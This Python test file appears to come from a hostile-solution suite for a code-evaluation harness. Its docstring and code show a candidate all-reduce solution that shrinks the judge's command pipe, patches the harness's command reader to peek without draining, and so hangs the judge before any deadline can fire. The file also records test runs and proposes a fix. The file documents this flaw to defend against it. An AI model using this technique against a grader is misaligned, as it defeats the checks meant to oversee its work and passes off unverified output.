"""Attack (all-reduce): hang the judge itself, so that no deadline ever fires.

The judge writes its commands to each rank's command pipe with a blocking ``os.write``
(``SideRun.command_each`` / ``send_to``), from the one thread that also keeps every deadline. The
rank holds the pipe's read end, which is enough to shrink the pipe to one page
(``fcntl(F_SETPIPE_SZ)``) and to read what the judge wrote without consuming it: ``tee(2)``
copies a pipe's content into another pipe and leaves it in place. So after its first call the
rank replaces the harness's command reader by one that peeks (tee into a private pipe, skip the
bytes already seen) and never drains the command pipe. The harness keeps working as before, and
the evaluation goes on normally, until the unread commands and "go"s fill the page: the judge's
next write then blocks for ever. It is blocked inside the very loop that would notice a deadline,
so the evaluation neither ends nor fails; the candidate's processes stay alive, and only an outer
kill ends it (here ``timeout 120``; a worker without one is held for good). A sandboxed rank
cannot open ``/proc/self/fd/N`` for writing (EACCES, tried first), so the pipe fills with the
judge's own commands. Every answer is right; any answer would do.

Command: timeout 120 .venv/bin/python -m evaluator.cli eval --problem all-reduce \
    --solution tests/evaluator/hostile/fills_command_pipe.py --world-size 2 --device cpu --size small

Measured 2026-11-28, sandbox on: run 1 (default limits, ``--progress``): the five trials passed,
"timing started", then nothing until ``timeout 120`` killed the evaluator (rc 124). Runs 2 and 3
with ``--step-timeout 10 --deadline 60``: still no verdict when ``timeout 150`` killed it (rc 124),
2.5 times past the deadline. Each left its /dev/shm work directory behind.

Fix: the judge's command pipes non-blocking (``os.set_blocking(command_fd, False)`` in
``SideRun.start``), and a write that does not go through whole in ``send_to`` / ``command`` a
``protocol_violation`` of that side (the harness reads every command as it comes; a pipe too full
to take the next is a rank that stopped reading, or shrank it), or at least a write with a bounded
wait (select on writability against the command's deadline).
"""

import ctypes
import fcntl
import json
import os
import time

import torch.distributed as dist

F_SETPIPE_SZ = 1031
_libc = ctypes.CDLL(None, use_errno=True)
_libc.tee.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_size_t, ctypes.c_uint]
_libc.tee.restype = ctypes.c_ssize_t
_done = False


def _peek(fd):
    """Everything in the pipe now, left in place."""
    r, w = os.pipe()
    try:
        fcntl.fcntl(w, F_SETPIPE_SZ, 1 << 20)
        n = _libc.tee(fd, w, 1 << 20, 0)
        if n <= 0:
            return b""
        return os.read(r, n)
    finally:
        os.close(r)
        os.close(w)


def _patch():
    from evaluator import rank_timing

    def next_command(self):
        seen = getattr(self, "_peeked", 0)
        while True:
            data = _peek(self._fd)
            line_end = data.find(b"\n", seen)
            if line_end >= 0:
                self._peeked = line_end + 1
                return json.loads(data[seen:line_end])
            time.sleep(0.0002)

    rank_timing.CommandReader.next = next_command


def _shrink(fd):
    try:
        fcntl.fcntl(fd, F_SETPIPE_SZ, 4096)
    except OSError:
        pass


def solution(x, *, group):
    global _done
    out = x.clone()
    dist.all_reduce(out, group=group)
    if not _done:
        _done = True
        import sys
        _shrink(int(sys.argv[5]))  # the harness's command pipe (rank_main: job, rank, status, stacks, commands)
        _patch()
    return out
